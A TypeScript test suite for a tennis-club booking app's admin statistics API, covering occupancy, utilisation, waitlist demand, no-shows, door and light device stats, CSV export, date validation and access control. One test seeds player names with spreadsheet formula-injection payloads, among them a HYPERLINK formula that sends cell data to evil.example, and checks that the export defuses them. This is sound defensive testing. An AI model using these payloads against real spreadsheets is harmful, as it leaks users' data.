import { randomUUID } from 'node:crypto';
import type { DevicesStats, NoShowStats, OccupancyCell, OccupancyStats } from '@kort/contracts';
import { Client } from '../support/client';
import { msk, signedInPlayers } from '../support/players';
import type { TestApp } from '../support/test-app';
import { insertUser, startAdminApp, type AdminSession } from '../admin/admin-support';

// The statistics against a scene of known games in the week of Monday 30 August 2027 (Moscow,
// UTC+3), the admin's "now" being the Monday after it.
const WEEK = 'from=2027-08-30&to=2027-09-05';

let api: TestApp;
let admin: AdminSession;
let courts: number[];
let noShower: number;
let lateCanceller: number;
const q = (path: string, options?: { headers?: Record<string, string> }) =>
  admin.client.get(`/api/admin/stats/${path}`, { csrf: false, ...options });

async function game(
  user: number,
  court: number,
  startsAt: string,
  extra: { started?: boolean; noShow?: boolean; cancelledAt?: string } = {},
): Promise<number> {
  const start = new Date(startsAt);
  const noShowAt = extra.noShow ? new Date(start.getTime() + 15 * 60_000) : null;
  const [row] = await api.db.query<{ id: number }[]>(
    `INSERT INTO bookings (user_id, court_id, starts_at, ends_at, players_count, started_at, cancelled_at, no_show_at)
     VALUES ($1, $2, $3, $4, 2, $5, $6, $7) RETURNING id`,
    [
      user,
      court,
      start,
      new Date(start.getTime() + 3600_000),
      extra.started ? new Date(start.getTime() + 5 * 60_000) : null,
      noShowAt ?? (extra.cancelledAt ? new Date(extra.cancelledAt) : null),
      noShowAt,
    ],
  );
  return row!.id;
}

async function command(action: string, at: string, fields: { origin?: string; to?: string; by?: number } = {}) {
  await api.db.query(
    `INSERT INTO commands (id, site_id, device, action, requested_by, requested_at, deadline, finished_at, status, origin, offline)
     VALUES ($1, 'default', $2, $3, $4, $5, $5, $6, 'done', $7, $8)`,
    [
      randomUUID(),
      action.split('.')[0] === 'agent' ? null : action.split('.')[0],
      action,
      fields.by ?? null,
      new Date(at),
      new Date(fields.to ?? at),
      fields.origin ?? 'agent',
      action === 'door.entry',
    ],
  );
}

beforeAll(async () => {
  ({ api, admin } = await startAdminApp());
  courts = (await api.db.query<{ id: number }[]>(`SELECT id FROM courts WHERE active ORDER BY id`)).map((c) => c.id);
  const [one, two] = courts as [number, number];
  noShower = (await insertUser(api, { name: 'Пётр Неявкин' })).id;
  lateCanceller = (await insertUser(api, { name: 'Анна Поздняя' })).id;
  const other = (await insertUser(api, { name: 'Игрок' })).id;
  // Wednesday 1 September: two played at 18:00, one no-show at 19:00.
  await game(other, one, msk('2027-09-01', 18), { started: true });
  await game(other, two, msk('2027-09-01', 18), { started: true });
  await game(noShower, one, msk('2027-09-01', 19), { noShow: true });
  // Thursday 2 September 10:00: one cancelled 2 hours before (late), one 3 days before.
  await game(lateCanceller, one, msk('2027-09-02', 10), { cancelledAt: msk('2027-09-02', 8) });
  await game(other, two, msk('2027-09-02', 10), { cancelledAt: msk('2027-08-30', 10) });
  // Closures: court one on Tuesday 10:00-12:00, the whole club on Friday 12:00-13:00.
  await api.db.query(
    `INSERT INTO closures (court_id, starts_at, ends_at, reason) VALUES ($1, $2, $3, 'Ремонт'), (NULL, $4, $5, 'Турнир')`,
    [one, msk('2027-08-31', 10), msk('2027-08-31', 12), msk('2027-09-03', 12), msk('2027-09-03', 13)],
  );
}, 60_000);
afterAll(() => api?.close());

const cell = (stats: OccupancyStats, weekday: number, hour: number): OccupancyCell =>
  stats.cells.find((c) => c.weekday === weekday && c.hour === hour)!;

test('occupancy of a known week: 3 booked, 2 played, 1 no-show, and the cancellations', async () => {
  const response = await q(`occupancy?${WEEK}`);
  expect(response.status).toBe(200);
  const stats = response.body as OccupancyStats;
  expect(stats.cells).toHaveLength(7 * 24);
  expect(stats.totals).toMatchObject({ booked: 3, played: 2, no_show: 1, cancelled: 2 });
  expect(stats.totals.played / stats.totals.booked).toBeCloseTo(2 / 3);
  expect(cell(stats, 3, 18)).toMatchObject({ court_hours_open: courts.length, booked: 2, played: 2, no_show: 0 });
  expect(cell(stats, 3, 19)).toMatchObject({ booked: 1, played: 0, no_show: 1 });
  expect(cell(stats, 4, 10)).toMatchObject({ booked: 0, cancelled: 2 });
  // Before the club opens (6:00) nothing is open.
  expect(cell(stats, 1, 3).court_hours_open).toBe(0);
});

test('a closure removes open hours: one court on Tuesday, the whole club on Friday', async () => {
  const stats = (await q(`occupancy?${WEEK}`)).body as OccupancyStats;
  expect(cell(stats, 2, 10).court_hours_open).toBe(courts.length - 1);
  expect(cell(stats, 2, 11).court_hours_open).toBe(courts.length - 1);
  expect(cell(stats, 2, 12).court_hours_open).toBe(courts.length);
  expect(cell(stats, 5, 12).court_hours_open).toBe(0);
  // 18 hours a day on each court, 7 days, less the 2 + all-courts hours closed.
  expect(stats.totals.court_hours_open).toBe(courts.length * 18 * 7 - 2 - courts.length);
  expect(stats.totals.booked_share).toBeCloseTo(3 / stats.totals.court_hours_open, 4);
});

test("the club's zone decides the day and the week: 00:30 on Monday is Monday, 23:30 on Sunday the week before", async () => {
  const user = (await insertUser(api, { name: 'Полуночник' })).id;
  const [one] = courts as [number];
  await game(user, one, msk('2027-09-13', 0, 30), { started: true }); // Sunday 21:30 UTC
  await game(user, one, msk('2027-09-12', 23, 30), { started: true }); // Sunday 20:30 UTC
  const monday = (await q('occupancy?from=2027-09-13&to=2027-09-13')).body as OccupancyStats;
  expect(cell(monday, 1, 0)).toMatchObject({ booked: 1, played: 1 });
  expect(monday.totals.booked).toBe(1);
  const sunday = (await q('occupancy?from=2027-09-12&to=2027-09-12')).body as OccupancyStats;
  expect(cell(sunday, 7, 23)).toMatchObject({ booked: 1 });
  expect(sunday.totals.booked).toBe(1);
  const weeks = (await q('courts?from=2027-09-06&to=2027-09-19')).body.weeks as {
    week_start: string;
    booked: number;
  }[];
  const booked = (week: string) => weeks.filter((w) => w.week_start === week).reduce((s, w) => s + w.booked, 0);
  expect(booked('2027-09-06')).toBe(1);
  expect(booked('2027-09-13')).toBe(1);
});

test('utilisation per court and week: open, booked and played court-hours', async () => {
  const response = await q(`courts?${WEEK}`);
  expect(response.status).toBe(200);
  const [one, two] = courts.map(String) as [string, string];
  const weeks = response.body.weeks as { court_id: string; week_start: string }[];
  expect(weeks.find((w) => w.court_id === one)).toMatchObject({
    week_start: '2027-08-30',
    court_hours_open: 18 * 7 - 3,
    booked: 2,
    played: 1,
  });
  expect(weeks.find((w) => w.court_id === two)).toMatchObject({ court_hours_open: 18 * 7 - 1, booked: 1, played: 1 });
});

test('demand: places in line per hour, and those who got a court through it', async () => {
  const users = await Promise.all(['А', 'Б', 'В'].map((name) => insertUser(api, { name })));
  const states = ['booked', 'expired', 'left'];
  for (const [index, user] of users.entries()) {
    await api.db.query(
      `INSERT INTO waitlist_entries (site_id, user_id, starts_at, state) VALUES ('default', $1, $2, $3)`,
      [user.id, msk('2027-09-01', 18), states[index]],
    );
  }
  const response = await q(`demand?${WEEK}`);
  expect(response.status).toBe(200);
  expect(response.body.totals).toEqual({ joined: 3, got_court: 1 });
  expect(response.body.cells).toContainEqual({ weekday: 3, hour: 18, joined: 3, got_court: 1 });
});

test('no-shows and late cancellations per week, and the players with the most', async () => {
  const stats = (await q(`no-shows?${WEEK}`)).body as NoShowStats;
  expect(stats.weeks).toEqual([{ week_start: '2027-08-30', no_shows: 1, late_cancellations: 1 }]);
  expect(stats.top_players).toEqual([
    { user_id: String(noShower), name: 'Пётр Неявкин', no_shows: 1, late_cancellations: 0 },
    { user_id: String(lateCanceller), name: 'Анна Поздняя', no_shows: 0, late_cancellations: 1 },
  ]);
});

test('door and devices: openings by kind, offline periods, lights-on against played hours', async () => {
  await command('door.open', msk('2027-09-01', 17, 56), { origin: 'api' });
  await command('door.open', msk('2027-09-01', 17, 57), { origin: 'api' });
  await command('door.entry', msk('2027-09-01', 18, 1));
  await command('door.hold', msk('2027-09-02', 9), { origin: 'api', by: admin.id });
  await command('light.on', msk('2027-09-01', 17, 55));
  await command('light.off', msk('2027-09-01', 20, 7));
  await command('agent.offline', msk('2027-09-01', 17, 59), { to: msk('2027-09-01', 18, 20) });
  const stats = (await q(`devices?${WEEK}`)).body as DevicesStats;
  expect(stats.openings).toEqual({ online_code: 2, offline_pin: 1, admin: 1 });
  expect(stats.light_hours).toBeCloseTo(2.2, 2);
  expect(stats.played_hours).toBe(2);
  expect(stats.offline_periods).toContainEqual({
    from: new Date(msk('2027-09-01', 17, 59)).toISOString(),
    to: new Date(msk('2027-09-01', 18, 20)).toISOString(),
  });
  expect(stats.weeks).toEqual([
    { week_start: '2027-08-30', online_code: 2, offline_pin: 1, admin: 1, light_hours: 2.2, played_hours: 2 },
  ]);
});

test('lights are counted within the period: on before it counts from its start, still on counts up to now', async () => {
  await command('light.on', msk('2027-08-22', 23, 30));
  await command('light.off', msk('2027-08-23', 0, 30));
  expect(((await q('devices?from=2027-08-23&to=2027-08-23')).body as DevicesStats).light_hours).toBe(0.5);
  expect(((await q('devices?from=2027-08-22&to=2027-08-22')).body as DevicesStats).light_hours).toBe(0.5);
  // The admin's "now" is 09:00 on 6 September; the light went on at 08:00 and is on still.
  await command('light.on', msk('2027-09-06', 8), { origin: 'api', by: admin.id });
  expect(((await q('devices?from=2027-09-06&to=2027-09-06')).body as DevicesStats).light_hours).toBe(1);
});

test('the same numbers as CSV, by ?format=csv or Accept: text/csv', async () => {
  const byParam = await q(`occupancy?${WEEK}&format=csv`);
  expect(byParam.status).toBe(200);
  expect(byParam.headers['content-type']).toMatch(/^text\/csv/);
  const lines = byParam.text
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n');
  // The same word for court-hours as the screen («корт-часы»).
  expect(lines[0]).toBe('День недели;Час;Открытых корт-часов;Забронировано;Сыграно;Неявки;Отменено');
  expect(lines).toContain(`ср;18;${courts.length};2;2;0;0`);
  expect(lines).toContain(`чт;10;${courts.length};0;0;0;2`);
  // The club's closed hours are left out: the night before 6:00, and Friday's whole-club closure at 12:00.
  expect(lines.filter((line) => /^(пн|вт|ср|чт|пт|сб|вс);[0-5];/.test(line))).toEqual([]);
  expect(lines.some((line) => line.startsWith('пт;12;'))).toBe(false);
  expect(lines).toContain(`пт;13;${courts.length};0;0;0;0`);
  // Court one's closure on Tuesday leaves the other courts open: the hour stays.
  expect(lines).toContain(`вт;10;${courts.length - 1};0;0;0;0`);
  expect(lines).toHaveLength(1 + 7 * 18 - 1);
  const byAccept = await q(`no-shows?${WEEK}`, { headers: { Accept: 'text/csv' } });
  expect(byAccept.headers['content-type']).toMatch(/^text\/csv/);
  expect(byAccept.text).toContain('Пётр Неявкин;' + noShower + ';1;0');
});

/** The cells of a `;` CSV as a spreadsheet reads them (RFC 4180 quoting, CRLF rows). */
function spreadsheetCells(text: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = /("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n|$)/g;
  for (const [, raw = '', end] of text.replace(/^\uFEFF/, '').matchAll(pattern)) {
    rows.at(-1)!.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.filter((row) => row.length > 1 || row[0] !== '');
}

test("a player's name never runs as a formula in the CSV: it starts with ', the figures stay numbers", async () => {
  const [one] = courts as [number];
  const names = ['=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', '+SUM(1;2)', '@SUM(1+1)', '-2+3', '\t=1+1'];
  const ids: number[] = [];
  for (const [index, name] of names.entries()) {
    const id = (await insertUser(api, { name })).id;
    ids.push(id);
    await game(id, one, msk('2027-10-06', 8 + index), { noShow: true });
  }
  const response = await q('no-shows?from=2027-10-04&to=2027-10-10&format=csv');
  expect(response.status).toBe(200);
  // The players' table (name, id, no-shows, late cancellations), after the weeks' one.
  const players = spreadsheetCells(response.text).filter((row) => row.length === 4 && ids.includes(Number(row[1])));
  expect(players.map(([name, id, noShows, late]) => [name, Number(id), noShows, late])).toEqual(
    names.map((name, index) => [`'${name}`, ids[index], '1', '0']),
  );
  // As the file's own text: `+SUM(1;2)` is one quoted cell, its `;` no separator.
  expect(response.text).toContain(`"'+SUM(1;2)";${ids[1]};1;0\r\n`);
  // No cell of the file starts a formula; a figure is a number.
  for (const cell of spreadsheetCells(response.text).flat()) {
    expect(/^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell)).toBe(false);
  }
});

test.each([
  ['from=2027-09-05&to=2027-08-30', 'Начало периода позже его конца'],
  ['from=2026-01-01&to=2027-01-02', 'Период не может быть длиннее 366 дней'],
  ['from=2027-02-30&to=2027-03-01', 'Дата начала периода должна быть в виде ГГГГ-ММ-ДД'],
  ['from=2027-08-30&to=5.9.2027', 'Дата конца периода должна быть в виде ГГГГ-ММ-ДД'],
  ['to=2027-08-30', 'Дата начала периода должна быть в виде ГГГГ-ММ-ДД'],
])('%s is a 400 saying why', async (query, detail) => {
  const response = await q(`occupancy?${query}`);
  expect(response.status).toBe(400);
  expect(response.body.detail).toBe(detail);
});

test('a year is allowed, and a leap year too', async () => {
  expect((await q('devices?from=2027-01-01&to=2027-12-31')).status).toBe(200);
  expect((await q('courts?from=2028-01-01&to=2028-12-31')).status).toBe(200);
});

test('a player gets 403 and nobody signed in 401', async () => {
  const [player] = await signedInPlayers(api, 1);
  for (const path of ['occupancy', 'courts', 'demand', 'no-shows', 'devices']) {
    expect((await player!.client.get(`/api/admin/stats/${path}?${WEEK}`)).status).toBe(403);
    expect((await new Client(api.server).get(`/api/admin/stats/${path}?${WEEK}`)).status).toBe(401);
  }
});
